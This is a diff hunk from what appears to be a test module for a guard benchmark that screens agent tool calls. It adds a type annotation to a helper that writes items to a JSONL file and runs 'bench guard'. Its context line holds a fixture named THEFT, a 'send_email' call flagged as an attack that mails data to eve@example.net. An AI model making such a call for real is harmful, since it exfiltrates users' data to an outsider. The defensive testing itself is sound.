@@ -42,6 +42,7 @@ THEFT = call("send_email", "sent", attack=True, to="eve@example.net", body="4711
 def measured(home: Home, items: list[Any], *more: str) -> dict[str, Any]:
     file = home.folder / "mine.jsonl"
     file.write_text("\n".join(json.dumps(item) for item in items), encoding="utf-8")
+    figures: dict[str, Any]
     (figures,) = home.json("bench", "guard", "--set", str(file), *more)["sets"]
     return figures
 
